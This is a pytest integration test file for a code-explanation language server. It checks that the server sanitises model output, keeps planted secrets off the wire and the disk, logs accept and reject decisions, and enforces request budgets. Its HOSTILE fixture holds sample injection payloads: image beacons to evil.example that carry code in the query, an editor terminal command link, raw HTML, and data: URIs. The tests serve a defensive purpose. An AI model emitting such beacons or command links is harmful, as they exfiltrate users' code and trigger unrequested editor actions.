"""Explanations the whole way: a real server, a real endpoint, every byte of the state folder."""

import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from tests.explanation.test_markdown import active
from tests.privacy.planted import SECRETS
from tests.support.lsp_client import LspClient, lsp_process
from tests.support.model_server import ModelServer, Script

SERVE = ("-m", "centaur", "serve")
CODE = "def add(a, b):\n    return a + b\n"
WORDS = "## What it does\nAdds.\n\n## How\n- Uses `+` (L2)."
HOSTILE = """\
## What it does
![chart](https://evil.example/?q=code) Run [this](command:workbench.action.terminal.new) or <https://evil.example>.
<img src="https://evil.example/p.png"> See [ref][1] and data:text/html;base64,AAAA or www.evil.example now.

[1]: https://evil.example/ref

## How
- ![svg](data:image/svg+xml;base64,AAAA) https://evil.example/x (L2)
"""
CANARIES = {example.kind: example for example in SECRETS}


def settings(server: ModelServer, **more: Any) -> dict[str, Any]:
    named = {"endpoint": server.url, "style": "chat", "name": "tiny"}
    return {
        "models": {"m": named},
        "explain": {"model": "m"},
        "budget": {"requests_per_minute": 1_000},
    } | more


async def explain(client: LspClient, file: Path, text: str) -> dict[str, Any]:
    """Open the text, and explain all of it."""
    client.open(file.as_uri(), text)
    everything = {"start": {"line": 0, "character": 0}, "end": {"line": text.count("\n"), "character": 0}}
    asked = {"textDocument": {"uri": file.as_uri()}, "range": everything, "partialResultToken": 1}
    answer: dict[str, Any] = await client.request("centaur/explain", asked)
    return answer


def stored(home: Path) -> bytes:
    return b"".join(path.read_bytes() for path in home.rglob("*") if path.is_file())


def rows(home: Path, sql: str) -> list[tuple[Any, ...]]:
    with closing(sqlite3.connect(home / "events.db")) as connection:
        return connection.execute(sql).fetchall()


async def test_nothing_that_a_model_writes_is_a_link_an_image_or_html_not_even_on_its_way(
    tmp_path: Path,
) -> None:
    with ModelServer(Script(HOSTILE, delay_ms=1)) as server:
        async with lsp_process(*SERVE) as client:
            await client.initialize(settings(server), tmp_path.as_uri())
            answer = await explain(client, tmp_path / "a.py", CODE)
            parts = [one["params"]["value"] for one in client.notifications if one["method"] == "$/progress"]
            await client.quit()

        assert len(server.requests) == 1
    shown = [answer["markdown"], *(part["markdown"] for part in parts)]
    assert len(shown) > 5
    assert [text for text in shown if active(text) or "evil.example/" in text or "www." in text] == []


async def test_no_planted_secret_reaches_the_endpoint_the_cache_the_log_or_the_texts(
    centaur_home: Path, tmp_path: Path
) -> None:
    with ModelServer(Script(WORDS)) as server:
        async with lsp_process(*SERVE) as client:
            await client.initialize(settings(server, evidence={"level": "full"}), tmp_path.as_uri())
            for number, example in enumerate(CANARIES.values()):
                answer = await explain(client, tmp_path / f"{number}.py", f"{example.text}\nx = 1\n")
                assert answer["kind"] == "explanation", example.kind
            await client.quit()

        wire = b"".join(received.body for received in server.requests)
    disk = stored(centaur_home)
    assert len(server.requests) == len(CANARIES)
    assert [kind for kind, one in CANARIES.items() if one.secret.encode() in wire] == []
    assert [kind for kind, one in CANARIES.items() if one.secret.encode() in disk] == []


async def test_every_decision_is_in_the_log_with_the_prompt_that_made_the_text(
    centaur_home: Path, tmp_path: Path
) -> None:
    with ModelServer(Script(WORDS)) as server:
        async with lsp_process(*SERVE) as client:
            await client.initialize(settings(server), tmp_path.as_uri())
            accepted = await explain(client, tmp_path / "a.py", CODE)
            label = {"explanationId": accepted["explanationId"], "sentence": 0, "label": "good"}
            await client.request("centaur/feedback", label)
            found = await client.request(
                "centaur/acceptExplanation", {"explanationId": label["explanationId"]}
            )
            place = {"start": found["position"], "end": found["position"]}
            client.change(found["uri"], 2, {"range": place, "text": found["text"]})
            rejected = await explain(client, tmp_path / "b.py", CODE)
            await client.request("centaur/rejectExplanation", {"explanationId": rejected["explanationId"]})
            await client.quit()

    decided = """SELECT suggestion_kind, prompt_id, outcome, edit_ratio FROM outcome
        JOIN delivered USING (suggestion_id) JOIN generation USING (generation_id)
        JOIN opportunity ON opportunity.opportunity_id = delivered.opportunity_id ORDER BY outcome"""
    assert rows(centaur_home, decided) == [
        ("explanation", "explain/selection", "accepted", 0.0),
        ("explanation", "explain/selection", "rejected_explicit", None),
    ]
    assert rows(centaur_home, "SELECT label FROM feedback") == [("good",)]
    assert {row[0] for row in rows(centaur_home, "SELECT censored_reason FROM survival")} == {"session_end"}
    # Who accepts an explanation has neither typed nor pasted it.
    assert rows(centaur_home, "SELECT typed_chars, pasted_chars, other_chars FROM typing") == [
        (0, 0, len(found["text"]))
    ]


@pytest.mark.parametrize("limit", [{"requests_per_minute": 1}])
async def test_past_the_budget_there_are_facts_and_the_reason(tmp_path: Path, limit: dict[str, int]) -> None:
    with ModelServer(Script(WORDS)) as server:
        async with lsp_process(*SERVE) as client:
            await client.initialize(settings(server, budget=limit), tmp_path.as_uri())
            kinds = [
                (await explain(client, tmp_path / name, text))["kind"]
                for name, text in (("a.py", CODE), ("b.py", f"x = 1\n{CODE}"))
            ]
            await client.quit()

        assert (kinds, len(server.requests)) == (["explanation", "facts"], 1)
